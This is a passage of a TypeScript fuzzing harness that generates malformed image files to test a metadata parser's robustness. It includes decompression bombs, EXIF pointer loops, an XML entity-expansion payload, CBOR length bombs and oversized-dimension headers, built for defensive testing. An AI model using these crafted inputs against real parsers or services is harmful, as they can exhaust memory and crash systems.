    { name: 'synthetic-exif.tif', kind: 'tiff', bytes: tiffImage([asciiEntry(TAG.Make, 'Canon'), asciiEntry(TAG.Model, 'Canon EOS 80D'), asciiEntry(TAG.DateTime, '2025:11:20 10:15:00')]) },
    { name: 'synthetic-2x2.bmp', kind: 'bmp', bytes: bmp(2, 2) },
  ];
}

let seedCache: Seed[] | undefined;

/** The seed files (sorted by name) followed by the synthetic seeds. */
export function loadSeeds(): Seed[] {
  if (seedCache) return seedCache;
  const files = readdirSync(SEED_DIR)
    .filter((f) => KIND_BY_EXT[f.split('.').pop() ?? ''])
    .sort();
  seedCache = [
    ...files.map((f) => ({ name: f, kind: KIND_BY_EXT[f.split('.').pop()!], bytes: new Uint8Array(readFileSync(join(SEED_DIR, f))) })),
    ...syntheticSeeds(),
  ];
  return seedCache;
}

const seedNamed = (name: string) => {
  const s = loadSeeds().find((x) => x.name === name);
  if (!s) throw new Error(`seed ${name} is missing from ${SEED_DIR}`);
  return s.bytes;
};

/* ------------------------------------------------------------------ structured cases */

const MARKER_NAMES: Record<number, string> = { 0xd8: 'SOI', 0xd9: 'EOI', 0xda: 'SOS', 0xdb: 'DQT', 0xc4: 'DHT', 0xdd: 'DRI', 0xfe: 'COM', 0xc0: 'SOF0', 0xc2: 'SOF2' };
const markerName = (m: number) => MARKER_NAMES[m] ?? (m >= 0xe0 && m <= 0xef ? `APP${m - 0xe0}` : `0x${m.toString(16)}`);

function truncationCases(seeds: Seed[]): [string, CaseSpec[]][] {
  const jpeg: CaseSpec[] = [];
  const png: CaseSpec[] = [];
  const bmff: CaseSpec[] = [];
  const riff: CaseSpec[] = [];
  for (const seed of seeds) {
    const b = seed.bytes;
    const done = new Set<number>();
    const cut = (label: string, at: number, into: CaseSpec[]) => {
      if (at <= 0 || at >= b.length || done.has(at)) return;
      done.add(at);
      into.push({ name: `${seed.name}:${label}@${at}`, build: () => b.slice(0, at) });
    };
    if (seed.kind === 'jpeg') {
      jpegSegments(b).forEach((s, k) => {
        const label = `${markerName(s.marker)}#${k}`;
        for (const d of [0, 1, 2, 3, 4]) cut(`${label}+${d}`, s.offset + d, jpeg);
        if (s.end - s.offset > 10) cut(`${label}+mid`, s.offset + ((s.end - s.offset) >> 1), jpeg);
        cut(`${label}-end-1`, s.end - 1, jpeg);
      });
    } else if (seed.kind === 'png') {
      cut('signature', 8, png);
      pngChunks(b).forEach((c, k) => {
        const label = `${c.type}#${k}`;
        cut(`${label}+0`, c.offset, png);
        cut(`${label}+len`, c.offset + 4, png);
        cut(`${label}+type`, c.offset + 8, png);
        if (c.dataEnd - c.dataStart > 4) cut(`${label}+mid`, c.dataStart + ((c.dataEnd - c.dataStart) >> 1), png);
        cut(`${label}+crc`, c.dataEnd, png);
        cut(`${label}+crc2`, c.dataEnd + 2, png);
      });
    } else if (seed.kind === 'heic' || seed.kind === 'avif') {
      bmffBoxes(b).forEach((x, k) => {
        cut(`${x.type}#${k}+0`, x.offset, bmff);
        cut(`${x.type}#${k}+4`, x.offset + 4, bmff);
        cut(`${x.type}#${k}+8`, x.offset + 8, bmff);
        cut(`${x.type}#${k}+mid`, x.offset + ((x.end - x.offset) >> 1), bmff);
      });
    } else if (seed.kind === 'webp') {
      riffChunks(b).forEach((x, k) => {
        cut(`${x.id.trim()}#${k}+0`, x.offset, riff);
        cut(`${x.id.trim()}#${k}+4`, x.offset + 4, riff);
        cut(`${x.id.trim()}#${k}+8`, x.offset + 8, riff);
        cut(`${x.id.trim()}#${k}+mid`, x.offset + ((x.end - x.offset) >> 1), riff);
      });
    }
  }
  return [
    ['truncate-jpeg-marker', jpeg],
    ['truncate-png-chunk', png],
    ['truncate-bmff-box', bmff],
    ['truncate-riff-chunk', riff],
  ];
}

function emptyCases(): CaseSpec[] {
  const fixed: [string, Part][] = [
    ['0-bytes', []],
    ['1-byte-ff', [0xff]],
    ['jpeg-soi', [0xff, 0xd8]],
    ['jpeg-magic-3', [0xff, 0xd8, 0xff]],
    ['jpeg-soi-eoi', [0xff, 0xd8, 0xff, 0xd9]],
    ['jpeg-soi-eoi-padded-12', [0xff, 0xd8, 0xff, 0xd9, 0, 0, 0, 0, 0, 0, 0, 0]],
    ['jpeg-soi-app0-header-only', [0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]],
    ['png-signature', PNG_SIGNATURE],
    ['png-signature-plus-4', concat(PNG_SIGNATURE, [0, 0, 0, 13])],
    ['png-signature-ihdr-type', concat(PNG_SIGNATURE, [0, 0, 0, 13], 'IHDR')],
    ['png-signature-iend-only', concat(PNG_SIGNATURE, pngChunk('IEND'))],
    ['riff-webp-12', concat('RIFF', le32(4), 'WEBP')],
    ['riff-webp-vp8x-empty', concat('RIFF', le32(22), 'WEBP', 'VP8X', le32(10), new Uint8Array(10))],
    ['gif-header-6', 'GIF89a'],
    ['gif-header-13', concat('GIF89a', le16(1), le16(1), [0, 0, 0])],
    ['ftyp-heic-only', box('ftyp', 'heic', be32(0), 'mif1heic')],
    ['ftyp-avif-only', box('ftyp', 'avif', be32(0), 'mif1avif')],
    ['tiff-header-ii', [0x49, 0x49, 0x2a, 0x00, 0x08, 0, 0, 0]],
    ['tiff-header-ii-12', [0x49, 0x49, 0x2a, 0x00, 0x08, 0, 0, 0, 0, 0, 0, 0]],
    ['tiff-header-mm-12', [0x4d, 0x4d, 0x00, 0x2a, 0, 0, 0, 8, 0, 0, 0, 0]],
    ['bmp-header-14', concat('BM', new Uint8Array(12))],
    ['zeros-12', new Uint8Array(12)],
    ['zeros-64k', new Uint8Array(65536)],
    ['spaces-12', '            '],
  ];
  return [
    ...fixed.map(([name, bytes]) => ({ name, build: () => concat(bytes) })),
    { name: 'ff-1m', build: () => new Uint8Array(1 << 20).fill(0xff) },
    { name: 'over-64mib-limit', heavy: true, build: () => concat(seedNamed('plain.jpg'), new Uint8Array(65 * 1024 * 1024)) },
  ];
}

function bombCases(): CaseSpec[] {
  const rowsGray1 = (w: number, rows: number) => deflatedRun(rows * (1 + Math.ceil(w / 8)));
  return [
    { name: 'png-ihdr-20000x20000-tiny-idat', build: () => makePng(20000, 20000, deflatedRun(60001)) },
    { name: 'png-ihdr-20000x20000-idat-64mb', build: () => makePng(20000, 20000, deflatedRun(64 << 20)) },
    { name: 'png-gray1-20000x20000-full-idat', build: () => makePng(20000, 20000, rowsGray1(20000, 20000), { bitDepth: 1, colorType: 0 }) },
    { name: 'png-gray1-10000x10000-at-decode-limit', build: () => makePng(10000, 10000, rowsGray1(10000, 10000), { bitDepth: 1, colorType: 0 }) },
    { name: 'png-gray1-7000x7000-full-idat', build: () => makePng(7000, 7000, rowsGray1(7000, 7000), { bitDepth: 1, colorType: 0 }) },
    { name: 'png-gray1-10000x10000-truncated-idat', build: () => makePng(10000, 10000, rowsGray1(10000, 16), { bitDepth: 1, colorType: 0 }) },
    { name: 'png-rgba16-7000x7000-tiny-idat', build: () => makePng(7000, 7000, deflatedRun(56001), { bitDepth: 16, colorType: 6 }) },
    { name: 'png-gray1-4000x4000-adam7', build: () => concat(PNG_SIGNATURE, ihdr(4000, 4000, 1, 0, 1), pngChunk('IDAT', deflatedRun(2_100_000)), pngChunk('IEND')) },
    { name: 'png-10000-empty-idat-chunks', build: () => concat(PNG_SIGNATURE, ihdr(64, 48), ...Array.from({ length: 10000 }, () => pngChunk('IDAT')), pngChunk('IEND')) },
    { name: 'png-ztxt-inflates-to-120mb', build: () => pngInsert(seedNamed('png-plain.png'), [pngZtxt('parameters', deflatedRun(120 << 20, 0x41))]) },
    { name: 'png-itxt-compressed-inflates-to-120mb', build: () => pngInsert(seedNamed('png-plain.png'), [pngItxt('prompt', deflatedRun(120 << 20, 0x41), true)]) },
    { name: 'png-itxt-xmp-compressed-inflates-to-120mb', build: () => pngInsert(seedNamed('png-plain.png'), [pngItxt('XML:com.adobe.xmp', deflatedRun(120 << 20, 0x41), true)]) },
    { name: 'png-iccp-inflates-to-120mb', build: () => pngInsert(seedNamed('png-plain.png'), [pngChunk('iCCP', concat('icc', [0, 0], deflatedRun(120 << 20, 0x41)))]) },
    { name: 'png-64-ztxt-chunks-8mb-each', build: () => pngInsert(seedNamed('png-plain.png'), Array.from({ length: 64 }, (_, i) => pngZtxt(['parameters', 'prompt', 'workflow', 'Comment'][i % 4], deflatedRun(8 << 20, 0x41 + (i % 4))))) },
    { name: 'png-200-ztxt-chunks-1mb-each', build: () => pngInsert(seedNamed('png-plain.png'), Array.from({ length: 200 }, (_, i) => pngZtxt(`k${i}`, deflatedRun(1 << 20, 0x61)))) },
    { name: 'png-ztxt-invalid-deflate', build: () => pngInsert(seedNamed('png-plain.png'), [pngZtxt('parameters', rng(7).bytes(4096))]) },
    { name: 'png-ztxt-truncated-deflate', build: () => pngInsert(seedNamed('png-plain.png'), [pngZtxt('parameters', deflatedRun(1 << 20, 0x41).subarray(0, 300))]) },
    { name: 'png-itxt-invalid-utf8', build: () => pngInsert(seedNamed('png-plain.png'), [pngItxt('parameters', Uint8Array.from({ length: 4096 }, (_, i) => 0x80 + (i % 64)))]) },
    { name: 'jpeg-sof-10000x10000-at-decode-limit', build: () => setJpegSize(seedNamed('plain.jpg'), 10000, 10000) },
    { name: 'jpeg-sof-7000x7000', build: () => setJpegSize(seedNamed('plain.jpg'), 7000, 7000) },
    { name: 'jpeg-sof-65500x1500', build: () => setJpegSize(seedNamed('plain.jpg'), 65500, 1500) },
  ];
}

function dimensionCases(): CaseSpec[] {
  const jpg = () => seedNamed('camera-exif.jpg');
  const png = () => seedNamed('png-plain.png');
  const heicDims = (brand: 'heic' | 'avif', w: number, h: number) => () => heif({ brand, width: w, height: h, tiff: cameraTiff() });
  return [
    { name: 'jpeg-sof-65535x65535', build: () => setJpegSize(jpg(), 65535, 65535) },
    { name: 'jpeg-sof-0x0', build: () => setJpegSize(jpg(), 0, 0) },
    { name: 'jpeg-sof-65535x0', build: () => setJpegSize(jpg(), 65535, 0) },
    { name: 'jpeg-sof-0x65535', build: () => setJpegSize(jpg(), 0, 65535) },
    { name: 'jpeg-sof-1x65535', build: () => setJpegSize(jpg(), 1, 65535) },
    { name: 'png-ihdr-65535x65535', build: () => setPngSize(png(), 65535, 65535) },
    { name: 'png-ihdr-0x0', build: () => setPngSize(png(), 0, 0) },
    { name: 'png-ihdr-0x48', build: () => setPngSize(png(), 0, 48) },
    { name: 'png-ihdr-ffffffff-squared', build: () => setPngSize(png(), 0xffffffff, 0xffffffff) },
    { name: 'png-ihdr-7fffffff-squared', build: () => setPngSize(png(), 0x7fffffff, 0x7fffffff) },
    { name: 'png-ihdr-1x100000000', build: () => setPngSize(png(), 1, 100_000_000) },
    { name: 'png-ihdr-100000001x1', build: () => setPngSize(png(), 100_000_001, 1) },
    { name: 'gif-65535x65535', build: () => gifFrames(1, { width: 65535, height: 65535 }) },
    { name: 'gif-0x0', build: () => gifFrames(1, { width: 0, height: 0 }) },
    { name: 'webp-vp8x-16777216-squared', build: () => webp(vp8x(0, 16777216, 16777216), VP8L_CHUNK) },
    { name: 'webp-vp8l-16384-squared', build: () => webp(riffChunk('VP8L', [0x2f, 0xff, 0xff, 0xff, 0x0f, 0, 0, 0, 0, 0])) },
    { name: 'webp-vp8-0x0', build: () => webp(riffChunk('VP8 ', concat([0x10, 0x02, 0x00, 0x9d, 0x01, 0x2a], le16(0), le16(0), new Uint8Array(8)))) },
    { name: 'bmp-2147483647x-2147483648', build: () => bmp(0x7fffffff, 0x80000000) },
    { name: 'bmp-0x0', build: () => bmp(0, 0) },
    { name: 'heic-ispe-ffffffff-squared', build: heicDims('heic', 0xffffffff, 0xffffffff) },
    { name: 'heic-ispe-0x0', build: heicDims('heic', 0, 0) },
    { name: 'avif-ispe-65535x65535', build: heicDims('avif', 65535, 65535) },
    { name: 'avif-ispe-10000x10000', build: heicDims('avif', 10000, 10000) },
  ];
}

type Container = 'jpeg' | 'png' | 'webp' | 'tiff' | 'heic';
const CONTAINERS_OF_EXIF: Container[] = ['jpeg', 'png', 'webp', 'tiff', 'heic'];

/** Puts a TIFF/EXIF stream into a file of the given container format. */
function withExif(container: Container, tiff: Uint8Array): Uint8Array {
  switch (container) {
    case 'jpeg':
      return jpegInsert(seedNamed('plain.jpg'), exifApp1(tiff.length > 65000 ? tiff.subarray(0, 65000) : tiff));
    case 'png':
      return pngInsert(seedNamed('png-plain.png'), [pngChunk('eXIf', tiff)]);
    case 'webp':
      return webp(vp8x(0x08, 1, 1), VP8L_CHUNK, riffChunk('EXIF', tiff));
    case 'tiff':
      return tiff;
    case 'heic':
      return heif({ brand: 'heic', tiff });
  }
}

function exifLoopCases(): [string, CaseSpec[]][] {
  const cam = () => [asciiEntry(TAG.Make, 'Apple'), asciiEntry(TAG.Model, 'iPhone 13')];
  const date = () => asciiEntry(TAG.DateTimeOriginal, '2025:11:20 10:15:00');
  const loops: [string, () => Uint8Array][] = [
    ['ifd0-next-is-itself', () => buildTiff([{ entries: cam(), next: { ifd: 0 } }])],
    ['ifd1-next-is-ifd0', () => buildTiff([{ entries: cam(), next: { ifd: 1 } }, { entries: [longEntry(TAG.ThumbnailOffset, 8), longEntry(TAG.ThumbnailLength, 16)], next: { ifd: 0 } }])],
    ['three-ifd-cycle', () => buildTiff([{ entries: cam(), next: { ifd: 1 } }, { entries: [], next: { ifd: 2 } }, { entries: [], next: { ifd: 0 } }])],
    ['exif-ifd-points-to-itself', () => buildTiff([{ entries: [...cam(), ptrEntry(TAG.ExifIFD, { ifd: 1 })] }, { entries: [date(), ptrEntry(TAG.ExifIFD, { ifd: 1 })] }])],
    ['exif-ifd-points-to-ifd0', () => buildTiff([{ entries: [...cam(), ptrEntry(TAG.ExifIFD, { ifd: 0 })] }])],
    ['exif-and-gps-point-at-each-other', () => buildTiff([{ entries: [...cam(), ptrEntry(TAG.ExifIFD, { ifd: 1 }), ptrEntry(TAG.GPSIFD, { ifd: 2 })] }, { entries: [date(), ptrEntry(TAG.GPSIFD, { ifd: 2 })] }, { entries: [ptrEntry(TAG.ExifIFD, { ifd: 1 })] }])],
    ['interop-points-to-exif', () => buildTiff([{ entries: [...cam(), ptrEntry(TAG.ExifIFD, { ifd: 1 })] }, { entries: [date(), ptrEntry(TAG.InteropIFD, { ifd: 1 })] }])],
    ['next-ifd-points-into-entry', () => buildTiff([{ entries: cam(), next: { offset: 10 } }])],
    ['chain-of-2000-ifds', () => buildTiff(Array.from({ length: 2000 }, (_, i) => ({ entries: i === 0 ? cam() : [], next: i < 1999 ? { ifd: i + 1 } : undefined })))],
    ['chain-of-500-exif-ifds', () => buildTiff(Array.from({ length: 500 }, (_, i) => ({ entries: [i === 0 ? asciiEntry(TAG.Make, 'Apple') : date(), ptrEntry(TAG.ExifIFD, { ifd: Math.min(i + 1, 499) })] })))],
  ];
  const ranges: [string, () => Uint8Array][] = [
    ['first-ifd-past-end', () => buildTiff([{ entries: cam() }], { offset: 0xfffffff0 })],
    ['first-ifd-at-0', () => buildTiff([{ entries: cam() }], { offset: 0 })],
    ['first-ifd-at-7', () => buildTiff([{ entries: cam() }], { offset: 7 })],
    ['first-ifd-at-last-byte', () => { const t = buildTiff([{ entries: cam() }]); return patch(t, 4, le32(t.length - 1)); }],
    ['entry-value-offset-past-end', () => patchFirstValueOffset(buildTiff([{ entries: [asciiEntry(TAG.Make, 'A long camera maker name'), ...cam().slice(1)] }]), 0x7ffffff0)],
    ['ascii-count-2e31', () => buildTiff([{ entries: [{ ...asciiEntry(TAG.Make, 'Apple camera maker'), count: 0x80000000 }] }])],
    ['usercomment-count-ffffffff', () => buildTiff([{ entries: [ptrEntry(TAG.ExifIFD, { ifd: 1 })] }, { entries: [{ ...userCommentAscii('hello there'), count: 0xffffffff }] }])],
    ['rational-count-huge', () => buildTiff([{ entries: [ptrEntry(TAG.GPSIFD, { ifd: 1 })] }, { entries: [{ ...rationalEntry(TAG.GPSLatitude, [1, 1], [2, 1], [3, 1]), count: 0x20000000 }] }])],
    ['entry-count-65535', () => { const t = buildTiff([{ entries: cam() }]); return patch(t, 8, le16(0xffff)); }],
    ['exif-ifd-past-end', () => buildTiff([{ entries: [...cam(), ptrEntry(TAG.ExifIFD, { offset: 0xfffffff0 })] }])],
    ['gps-ifd-negative-offset', () => buildTiff([{ entries: [...cam(), ptrEntry(TAG.GPSIFD, { offset: 0x80000000 })] }])],
    ['thumbnail-past-end', () => buildTiff([{ entries: cam(), next: { ifd: 1 } }, { entries: [longEntry(TAG.ThumbnailOffset, 0xfffffff0), longEntry(TAG.ThumbnailLength, 0xffff)] }])],
    ['thumbnail-length-huge', () => buildTiff([{ entries: cam(), next: { ifd: 1 } }, { entries: [longEntry(TAG.ThumbnailOffset, 8), longEntry(TAG.ThumbnailLength, 0x7fffffff)] }])],
    ['thumbnail-is-the-file', () => buildTiff([{ entries: cam(), next: { ifd: 1 } }, { entries: [longEntry(TAG.ThumbnailOffset, 0), longEntry(TAG.ThumbnailLength, 4000)] }], { ifd: 0 }, seedNamed('plain.jpg'))],
    ['unknown-types-and-zero-counts', () => buildTiff([{ entries: [{ tag: TAG.Make, type: 0, value: new Uint8Array(8) }, { tag: TAG.Model, type: 99, count: 0, value: new Uint8Array(0) }, { tag: TAG.Software, type: 12, count: 1 << 30, value: new Uint8Array(8) }] }])],
    ['xmp-iptc-icc-tags-past-end', () => buildTiff([{ entries: [{ tag: TAG.XMP, type: 1, count: 0x7fffffff, value: { offset: 8 } }, { tag: TAG.IPTC, type: 7, count: 0xffffff, value: { offset: 12 } }, { tag: TAG.ICC, type: 7, count: 0x1000000, value: { offset: 8 } }] }])],
    ['makernote-is-a-tiff-loop', () => buildTiff([{ entries: [...cam(), ptrEntry(TAG.ExifIFD, { ifd: 1 })] }, { entries: [undefinedEntry(TAG.MakerNote, concat('Apple iOS\0', [0, 1, 0x4d, 0x4d], buildTiff([{ entries: [], next: { ifd: 0 } }])))] }])],
    ['bad-byte-order-mark', () => patch(buildTiff([{ entries: cam() }]), 0, [0x49, 0x4d])],
    ['bad-magic-43', () => patch(buildTiff([{ entries: cam() }]), 2, [0x2b, 0x00])],
  ];
  const each = (list: [string, () => Uint8Array][]) =>
    list.flatMap(([name, make]) => CONTAINERS_OF_EXIF.map((container) => ({ name: `${name}@${container}`, build: () => withExif(container, make()) })));
  return [
    ['exif-loop', each(loops)],
    ['exif-range', each(ranges)],
  ];
}

/** Points the first out-of-line value offset of IFD0 at `to`. */
function patchFirstValueOffset(tiff: Uint8Array, to: number): Uint8Array {
  return patch(tiff, 8 + 2 + 8, le32(to));
}

function xmpCases(): CaseSpec[] {
  const jpg = () => seedNamed('plain.jpg');
  const png = () => seedNamed('png-plain.png');
  const nested = (depth: number, tag = 'rdf:Bag') => `${`<${tag}><rdf:li>`.repeat(depth)}x${`</rdf:li></${tag}>`.repeat(depth)}`;
  const bigText = (n: number) => 'Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(Math.ceil(n / 57)).slice(0, n);
  const trailer = (packet: string) => concat(jpg(), packet);
  return [
    { name: 'huge-3mb-after-eoi', heavy: true, build: () => trailer(xmpPacket('', `<dc:description>${bigText(3 << 20)}</dc:description>`)) },
    { name: 'huge-6mb-png-itxt', heavy: true, build: () => pngInsert(png(), [pngItxt('XML:com.adobe.xmp', xmpPacket('', `<dc:description>${bigText(6 << 20)}</dc:description>`))]) },
    { name: 'huge-4mb-png-itxt-many-attributes', heavy: true, build: () => pngInsert(png(), [pngItxt('XML:com.adobe.xmp', xmpPacket(Array.from({ length: 120_000 }, (_, i) => `xmp:a${i}="v${i}"`).join(' ')))]) },
    { name: 'nested-60000-deep-png-itxt', build: () => pngInsert(png(), [pngItxt('XML:com.adobe.xmp', xmpPacket('', `<dc:subject>${nested(60_000)}</dc:subject>`))]) },
    { name: 'nested-1500-deep-app1', build: () => jpegInsert(jpg(), xmpApp1(xmpPacket('', `<dc:subject>${nested(1500)}</dc:subject>`))) },
    { name: 'nested-200000-open-tags-after-eoi', build: () => trailer(xmpPacket('', '<a>'.repeat(200_000))) },
    { name: 'unterminated-2mb-after-eoi', heavy: true, build: () => trailer(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>${bigText(2 << 20)}`) },
    { name: 'many-packets-app1', build: () => jpegInsert(jpg(), ...Array.from({ length: 40 }, (_, i) => xmpApp1(xmpPacket(`xmp:CreatorTool="tool ${i}"`)))) },
    { name: 'extended-xmp-40-segments', heavy: true, build: () => jpegInsert(jpg(), xmpApp1(xmpPacket('xmpNote:HasExtendedXMP="0123456789ABCDEF0123456789ABCDEF"')), ...extendedXmpSegments(utf8.encode(xmpPacket('', `<dc:description>${bigText(2_500_000)}</dc:description>`)), 65000)) },
    { name: 'extended-xmp-offsets-past-total', build: () => jpegInsert(jpg(), ...extendedXmpSegments(utf8.encode(xmpPacket('', bigText(200_000))), 65000, { total: 100, offsetShift: 0x7fff0000 })) },
    { name: 'extended-xmp-total-4gb', build: () => jpegInsert(jpg(), ...extendedXmpSegments(utf8.encode(xmpPacket('', bigText(100_000))), 65000, { total: 0xffffffff })) },
    { name: 'dst-attribute-60k-letters', build: () => jpegInsert(jpg(), xmpApp1(xmpPacket(`Iptc4xmpExt:DigitalSourceType="${'a'.repeat(60_000)}!"`))) },
    { name: 'dst-attribute-2mb-letters-after-eoi', heavy: true, build: () => trailer(xmpPacket(`Iptc4xmpExt:DigitalSourceType="${'a'.repeat(2_000_000)}!"`)) },
    { name: 'dst-element-repeated-60k', build: () => jpegInsert(jpg(), xmpApp1(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${'DigitalSourceType>'.repeat(3600)}`)) },
    { name: 'dst-element-repeated-2mb-after-eoi', heavy: true, build: () => trailer(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${'DigitalSourceType>'.repeat(110_000)}`) },
    { name: 'digimageguid-repeated-60k', build: () => jpegInsert(jpg(), xmpApp1(`<x:xmpmeta xmlns:x="adobe:ns:meta/">midjourney ${'DigImageGUID>'.repeat(5000)}`)) },
    { name: 'digimageguid-repeated-2mb-after-eoi', heavy: true, build: () => trailer(`<x:xmpmeta xmlns:x="adobe:ns:meta/">midjourney ${'DigImageGUID>'.repeat(160_000)}`) },
    { name: 'creatortool-60k', build: () => jpegInsert(jpg(), xmpApp1(xmpPacket(`xmp:CreatorTool="Midjourney ${'x'.repeat(60_000)}"`))) },
    { name: 'entity-expansion', build: () => jpegInsert(jpg(), xmpApp1(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]>${xmpPacket('xmp:CreatorTool="&j;"')}`)) },
    { name: 'utf16-packet', build: () => jpegInsert(jpg(), jpegSegment(0xe1, concat(XMP_NS, Uint8Array.from(Buffer.from(xmpPacket('xmp:CreatorTool="Firefly"'), 'utf16le'))))) },
    { name: 'nul-bytes-inside', build: () => jpegInsert(jpg(), xmpApp1(xmpPacket('xmp:CreatorTool="Fire\0fly"', '\0'.repeat(5000)))) },
    { name: 'invalid-utf8', build: () => jpegInsert(jpg(), jpegSegment(0xe1, concat(XMP_NS, '<x:xmpmeta xmlns:x="adobe:ns:meta/">', Uint8Array.from({ length: 20000 }, (_, i) => 0x80 + (i % 64)), '</x:xmpmeta>'))) },
    { name: 'webp-xmp-chunk-1mb', build: () => webp(vp8x(0x04, 1, 1), VP8L_CHUNK, riffChunk('XMP ', xmpPacket('', bigText(1 << 20)))) },
    { name: 'open-close-markers-interleaved', build: () => trailer('<x:xmpmeta'.repeat(50_000) + '</x:xmpmeta>') },
  ];
}

function iccCases(): CaseSpec[] {
  const jpg = () => seedNamed('plain.jpg');
  const profileHeader = (size: number, tags: number) => concat(be32(size), 'appl', [2, 0x10, 0, 0], 'mntr', 'RGB ', 'XYZ ', new Uint8Array(12), 'acsp', new Uint8Array(128 - 40), be32(tags));
  const app2 = (seq: number, of: number, data: Uint8Array) => jpegSegment(0xe2, concat('ICC_PROFILE\0', [seq, of], data));
  return [
    { name: 'jpeg-app2-64-segments-4mb', heavy: true, build: () => jpegInsert(jpg(), ...Array.from({ length: 64 }, (_, i) => app2(i + 1, 64, i === 0 ? concat(profileHeader(0xffffffff, 0xffffffff), new Uint8Array(64000)) : new Uint8Array(65000)))) },
    { name: 'jpeg-app2-seq-0-of-0', build: () => jpegInsert(jpg(), app2(0, 0, profileHeader(132, 1000))) },
    { name: 'jpeg-app2-seq-5-of-2', build: () => jpegInsert(jpg(), app2(5, 2, profileHeader(132, 1)), app2(1, 2, profileHeader(132, 1))) },
    { name: 'jpeg-app2-tag-table-past-end', build: () => jpegInsert(jpg(), app2(1, 1, concat(profileHeader(1000, 5000), Array.from({ length: 10 }, () => [...latin1('desc'), ...be32(0x7ffffff0), ...be32(0x7ffffff0)]).flat()))) },
    { name: 'jpeg-app2-desc-tag-huge-count', build: () => jpegInsert(jpg(), app2(1, 1, concat(profileHeader(300, 1), 'desc', be32(144), be32(100), 'desc', be32(0), be32(0xffffffff), 'x'.repeat(40)))) },
    { name: 'png-iccp-garbage', build: () => pngInsert(seedNamed('png-plain.png'), [pngChunk('iCCP', concat('icc', [0, 0], rng(3).bytes(2000)))]) },
    { name: 'tiff-icc-tag-huge', build: () => tiffImage([{ tag: TAG.ICC, type: 7, count: 0x7fffffff, value: profileHeader(0xffffffff, 0xffffffff) }]) },
  ];
}

function c2paCases(): CaseSpec[] {
  const jpg = () => seedNamed('plain.jpg');
  const png = () => seedNamed('png-plain.png');
  const bing = () => seedNamed('c2pa-bing.jpg');
  const firefly = () => seedNamed('c2pa-firefly.png');
  const out: CaseSpec[] = [];
  for (let k = 0; k < 6; k++) {
    out.push({ name: `app11-jumb-random-payload-${k}`, build: () => { const r = rng(100 + k); return jpegInsert(jpg(), ...app11(jumb(C2PA_UUID, 'c2pa', r.bytes(r.range(16, 60000))))); } });
    out.push({ name: `png-cabx-random-payload-${k}`, build: () => { const r = rng(200 + k); return pngInsert(png(), [pngChunk('caBX', jumb(C2PA_UUID, 'c2pa', r.bytes(r.range(16, 60000))))]); } });
    out.push({ name: `png-cabx-pure-random-${k}`, build: () => { const r = rng(300 + k); return pngInsert(png(), [pngChunk('caBX', r.bytes(r.range(1, 4000)))]); } });
  }
  const cborBombs: [string, Part][] = [
    ['array-2e64', [0x9b, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]],
    ['map-2e32', [0xba, 0xff, 0xff, 0xff, 0xff]],
    ['bytes-2e63', [0x5b, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x00]],
    ['text-4gb', [0x7a, 0xff, 0xff, 0xff, 0xff, 0x61]],
    ['nested-arrays-20000', new Array(20000).fill(0x81)],
    ['indefinite-never-closed-20000', new Array(20000).fill(0x9f)],
    ['nested-tags-20000', new Array(20000).fill(0xc6)],
    ['map-of-huge-keys', [0xa1, 0x7b, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00]],
  ];
  for (const [name, cbor] of cborBombs) {
    out.push({ name: `app11-manifest-cbor-${name}`, build: () => jpegInsert(jpg(), ...app11(manifestStore(concat(cbor)))) });
    out.push({ name: `png-cabx-manifest-cbor-${name}`, build: () => pngInsert(png(), [pngChunk('caBX', manifestStore(concat(cbor)))]) });
  }
  const store = () => manifestStore(concat([0xa2, 0x65], 'alg_x', [0x66], 'sha256', [0x6a], 'dc:title_x', [0x63], 'a.b'));
  out.push(
    { name: 'app11-jumb-lbox-past-end', build: () => jpegInsert(jpg(), ...app11(patch(store(), 0, be32(0x7ffffff0)))) },
    { name: 'app11-jumb-lbox-1-xlbox-2e63', build: () => jpegInsert(jpg(), ...app11(concat(be32(1), 'jumb', be64(0x7fffffffffffffffn), store().subarray(8)))) },
    { name: 'app11-jumb-lbox-1-xlbox-8', build: () => jpegInsert(jpg(), ...app11(concat(be32(1), 'jumb', be64(8n), store().subarray(8)))) },
    { name: 'app11-jumb-lbox-0', build: () => jpegInsert(jpg(), ...app11(patch(store(), 0, be32(0)))) },
    { name: 'app11-jumb-lbox-4', build: () => jpegInsert(jpg(), ...app11(patch(store(), 0, be32(4)))) },
    { name: 'app11-jumd-label-unterminated', build: () => jpegInsert(jpg(), ...app11(box('jumb', box('jumd', C2PA_UUID, [0x03], 'c2pa'.repeat(5000))))) },
    { name: 'app11-nested-jumb-3000-deep', build: () => jpegInsert(jpg(), ...app11(nestedBoxes('jumb', 3000, jumd(C2PA_UUID, 'c2pa'), box('cbor', [0xa0])))) },
    { name: 'app11-sequence-gap', build: () => jpegInsert(jpg(), ...app11(concat(store(), new Uint8Array(150_000)), { sequence: (i) => (i === 1 ? 7 : i + 1) })) },
    { name: 'app11-sequence-duplicate', build: () => jpegInsert(jpg(), ...app11(concat(store(), new Uint8Array(150_000)), { sequence: () => 1 })) },
    { name: 'app11-sequence-reversed', build: () => jpegInsert(jpg(), ...app11(concat(store(), new Uint8Array(150_000)), { sequence: (i) => 3 - i })) },
    { name: 'app11-sequence-zero-and-huge', build: () => jpegInsert(jpg(), ...app11(concat(store(), new Uint8Array(150_000)), { sequence: (i) => (i ? 0xffffffff : 0) })) },
    { name: 'app11-32-segments-2mb', heavy: true, build: () => jpegInsert(jpg(), ...app11(jumb(C2PA_UUID, 'c2pa', rng(9).bytes(2_000_000)))) },
    { name: 'app11-two-instances-interleaved', build: () => { const a = app11(concat(store(), new Uint8Array(100_000)), { instance: 1 }); const b = app11(concat(store(), new Uint8Array(100_000)), { instance: 2 }); return jpegInsert(jpg(), a[0], b[0], a[1], b[1]); } },
